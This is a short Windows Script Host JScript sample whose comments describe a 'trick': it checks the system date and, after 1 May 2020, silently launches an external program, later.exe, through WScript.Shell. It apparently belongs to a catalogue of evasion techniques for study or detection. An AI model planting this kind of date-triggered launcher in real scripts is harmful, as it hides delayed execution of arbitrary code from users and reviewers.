// persona: wsh
// reaches: process later.exe
// names: environment-check
// trick: waits for a date; the years before it, it looks harmless
var now = new Date();
if (now.getFullYear() >= 2020 && now.getTime() > Date.parse("2020/05/01") && now.getYear() > 100)
  new ActiveXObject("WScript.Shell").Run("later.exe");
